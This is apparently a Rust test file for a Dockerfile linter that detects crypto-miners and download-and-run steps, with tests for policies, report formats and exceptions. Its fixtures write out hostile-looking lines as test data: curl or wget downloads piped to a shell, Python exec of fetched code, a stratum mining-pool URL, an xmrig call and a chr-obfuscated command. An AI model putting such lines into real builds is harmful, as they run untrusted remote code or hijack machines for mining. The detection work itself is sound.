//! What users reported of the first version, each with the value that it must have: Dockerfiles, policies that judge nothing, files
//! that cannot be read. Names of Dockerfiles and what Git tracks: `discovery`; where one stands: `policy_place`; empty input of a scan:
//! `unread`.

use serde_json::Value;

use super::project::{POOL, Project};

/// `STOP rule` and `WARN rule` of the lines of a run, without `untrusted-image`, which every base is.
fn found(project: &Project, args: &[&str]) -> Vec<String> {
    let run = project.run(&[&["lint", "--no-policy", "-q", "-f", "short"], args].concat());
    let words = run.out.lines().filter_map(|line| {
        let (_, rest) = line.split_once(": ")?;
        let (action, rest) = rest.split_once('[')?;
        Some(format!("{action} {}", rest.split_once(']')?.0))
    });
    words.filter(|word| !word.ends_with("untrusted-image")).collect()
}

/// Without the entities of Markdown.
fn plain(report: &str) -> String {
    report.replace("&#46;", ".").replace("&#47;", "/")
}

const FORMATS: [&str; 12] = [
    "human",
    "short",
    "json",
    "sarif",
    "github",
    "gitlab",
    "compliance",
    "html",
    "junit",
    "checkstyle",
    "rdjson",
    "markdown",
];

#[test]
fn a_dockerfile_gets_each_finding_once_and_no_other() {
    let run = |line: &str| format!("FROM registry.example.invalid/base:1\n{line}\n");
    let cases: [(String, &[&str], &[&str]); 9] = [
        // a download that starts in the same or in a later command
        (
            run("RUN curl -sLo /tmp/a https://cdn.example.invalid/a; sh /tmp/a && rm /tmp/a"),
            &["WARN pipe-to-shell"],
            &["STOP pipe-to-shell", "STOP remote-transfer"],
        ),
        (
            run("RUN wget -q https://cdn.example.invalid/run.sh\nRUN chmod 755 run.sh && ./run.sh"),
            &["WARN pipe-to-shell"],
            &["STOP pipe-to-shell", "STOP remote-transfer"],
        ),
        // a pool that a program of another language hands to a shell
        (
            run("RUN python3 -c \"import os; os.system('/opt/a -o stratum+ssl://pool.example.invalid:1')\""),
            &["STOP mining-pool"],
            &["STOP mining-pool", "STOP remote-transfer"],
        ),
        (
            run("SHELL [\"/bin/bash\", \"-c\"]\nRUN sh <<< \"$(wget -qO- https://get.example.invalid/i)\""),
            &["WARN pipe-to-shell"],
            &["STOP pipe-to-shell", "STOP remote-transfer"],
        ),
        // a plain download is a matter of the stricter preset
        (
            run("RUN curl -o /opt/tool http://files.example.invalid/tool"),
            &[],
            &["STOP remote-transfer"],
        ),
        // the name of a program out of numbers
        (
            run("RUN python3 -c \"import os;os.system(''.join(map(chr,[47,111,112,116,47,97])))\""),
            &["WARN obfuscated-command"],
            &["STOP obfuscated-command"],
        ),
        (
            run("RUN python3 -c \"from urllib.request import urlopen;exec(urlopen('https://get.example.invalid/i').read())\""),
            &["WARN pipe-to-shell"],
            &["STOP pipe-to-shell", "STOP remote-transfer"],
        ),
        // paths of Windows hide nothing
        ("FROM mcr.microsoft.com/windows/nanoserver:ltsc2022\nRUN setx /M PATH \"%PATH%;C:\\tools\\bin\"\n".to_owned(), &[], &[]),
        ("FROM microsoft/nanoserver\nRUN setx PATH %PATH%;c:\\node\\bin\n".to_owned(), &[], &[]),
    ];
    for (text, default, locked_down) in cases {
        let project = Project::with(&[("Dockerfile", &text)]);
        assert_eq!(found(&project, &[]), default, "{text}");
        assert_eq!(found(&project, &["--preset", "locked-down"]), locked_down, "{text}");
    }
}

#[test]
fn inline_dockerfiles_are_judged_where_they_stand() {
    let compose = "services:\n  web:\n    build:\n      dockerfile_inline: |\n        FROM debian:12\n        CMD [\"run\", \"--donate-level=1\"]\n";
    let bake =
        "target \"web\" { dockerfile-inline = \"FROM debian:12\\nRUN /opt/xmrig --help\\n\" }\n";
    for (name, text, at) in [
        ("compose.yaml", compose, "compose.yaml:6:"),
        ("docker-bake.hcl", bake, "docker-bake.hcl:1:"),
    ] {
        let project = Project::with(&[(name, text)]);
        let run = project.run(&["lint", "--no-policy", "-q", "-f", "short"]);
        assert_eq!((run.code, run.out.lines().count()), (1, 1), "{}", run.out);
        assert!(run.out.starts_with(at) && run.out.contains("STOP[miner-command]"), "{}", run.out);
    }
}

#[test]
fn a_policy_that_turns_everything_off_is_named_by_every_report() {
    let off = |rule: &str| format!("[rules.{rule}]\naction = \"off\"\n");
    let policy = format!("fail-on = \"never\"\n{}{}", off("mining-pool"), off("miner-command"));
    let project = Project::with(&[("minestop.toml", &policy), ("Dockerfile", POOL)]);
    // what GitLab reads has it in each finding, and here is none
    for format in FORMATS.into_iter().filter(|format| *format != "gitlab") {
        let run = project.run(&["lint", "--format", format]);
        assert_eq!(run.code, 0, "{format}");
        let said = plain(&run.out);
        assert!(said.contains("minestop.toml"), "{format}: {said}");
    }
}

#[test]
fn a_pattern_that_no_path_can_match_is_refused_in_an_exception() {
    for pattern in ["old/[ab]/Dockerfile", "{a,b}", "", "a//b"] {
        let policy = format!(
            "[[exceptions]]\nrules = [\"mining-pool\"]\nfiles = [\"{pattern}\"]\nreason = \"x\"\n"
        );
        let project = Project::with(&[("minestop.toml", &policy), ("Dockerfile", POOL)]);
        let run = project.run(&["policy", "check"]);
        assert_eq!(run.code, 2, "{pattern}: {}", run.out);
        assert!(run.err.contains("minestop.toml:3:"), "{pattern}: {}", run.err);
    }
}

/// A link to nothing, as permissions keep nothing from root.
#[test]
#[cfg(unix)]
fn a_report_that_is_written_says_which_dockerfile_could_not_be_read() {
    let project = Project::with(&[("a/Dockerfile", "FROM debian:12\n"), ("b/x", "")]);
    std::os::unix::fs::symlink("gone", project.path("b/Dockerfile")).expect("a link");
    for format in FORMATS {
        let run = project.run(&["lint", "-f", format, "-o", "report"]);
        assert_eq!(run.code, 2, "{format}");
        let report = plain(&project.read("report"));
        assert!(report.contains("b/Dockerfile"), "{format}: {report}");
        assert!(!report.contains("GO:"), "{format}: {report}");
    }
    project.run(&["lint", "-f", "json", "-o", "report"]);
    let json: Value = serde_json::from_str(&project.read("report")).expect("JSON");
    assert_eq!(json["verdict"], "ERROR");
    project.run(&["lint", "-f", "sarif", "-o", "report"]);
    let sarif: Value = serde_json::from_str(&project.read("report")).expect("JSON");
    assert_eq!(sarif["runs"][0]["invocations"][0]["executionSuccessful"], false);
}

#[test]
fn a_finding_shows_what_an_exception_has_to_match_where_its_message_does_not() {
    let text =
        "FROM debian:12\nRUN apt-get install -y gcc libpq-dev\nRUN apt-get install -y curl\n";
    let project = Project::with(&[("Dockerfile", text)]);
    let run = project.run(&["lint", "--only", "package-install", "--stop", "package-install"]);
    assert_eq!(run.out.matches("= match: ").count(), 1, "{}", run.out);
    assert!(run.out.contains("= match: `gcc libpq-dev`"), "{}", run.out);
    let policy = "[rules.package-install]\naction = \"stop\"\n[[exceptions]]\nrule = \"package-install\"\nmatch = \"gcc libpq-dev\"\nreason = \"x\"\n";
    project.write("minestop.toml", policy);
    let run = project.run(&["lint", "-f", "short", "-q"]);
    assert!(!run.out.contains("gcc") && run.out.contains("curl"), "{}", run.out);
}
